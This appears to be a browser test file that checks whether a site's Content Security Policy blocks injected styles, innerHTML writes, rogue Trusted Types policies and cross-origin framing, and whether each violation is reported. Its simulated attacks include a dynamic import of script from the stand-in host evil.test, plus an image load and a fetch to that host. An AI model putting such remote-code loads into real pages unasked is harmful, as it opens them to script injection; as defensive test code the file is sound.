import { expect, type Page, test } from './browser-test';
import { openFakeCms } from './strapi-site';

// That a violation fails every other test is proved here by the list that they all end with.

/** What a page does that was broken into, each in a way of its own. */
const DEEDS = {
  'style-src-elem': () => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }));
  },
  'style-src-attr': () => document.body.setAttribute('style', 'color: red'),
  'script-src-elem': () => {
    const address = 'https://evil.test/a.js';
    return import(address);
  },
  'require-trusted-types-for': () => {
    document.body.innerHTML = '<p>';
  },
  'trusted-types': () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void };
    };
    trustedTypes.createPolicy('not-ours', {});
  },
  'img-src': () => {
    new Image().src = 'https://evil.test/a.png';
  },
  'connect-src': () => fetch('https://evil.test/'),
} as const;

/** Which directive refused the first thing that the page does from here on. */
const refusedBy = (page: Page, deed: () => unknown) =>
  page.evaluate(
    `new Promise((resolve) => {
      document.addEventListener(
        'securitypolicyviolation',
        (event) => resolve(event.effectiveDirective),
        { once: true },
      );
      Promise.try(${deed}).catch(() => {});
    })`,
  );

for (const [directive, deed] of Object.entries(DEEDS)) {
  test(`${directive} refuses what is not the site’s own, and every test hears of it`, async ({
    page,
    violations,
  }) => {
    await page.goto('/');
    const refused = await refusedBy(page, deed);
    expect(refused).toBe(directive);
    await expect.poll(() => violations).not.toEqual([]);
    // Both halves of the policy may tell: no page, no further word.
    await page.close();
    violations.length = 0;
  });
}

test('no other site shows a page in a frame', async ({ page, baseURL, violations }) => {
  const other = await openFakeCms();
  other.on('/', (_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${baseURL}/about">`);
  });
  const refused = page.waitForEvent('requestfailed', (request) => request.url().endsWith('/about'));
  await page.goto(other.url);
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await other.close();
  violations.length = 0;
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('the browser itself tells what was refused', async ({ page, violations }) => {
    await page.route('**/about', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</head>', '<style>p {}</style></head>');
      await route.fulfill({ response, body });
    });
    await page.goto('/about');
    await expect.poll(() => violations.join()).toContain('Content Security Policy');
    violations.length = 0;
  });
});

test('a page that no script draws carries its own policy, and stands by it', async ({ page }) => {
  await page.goto('/nowhere');
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute('content', /^default-src 'none';.* 'sha256-/u);
});
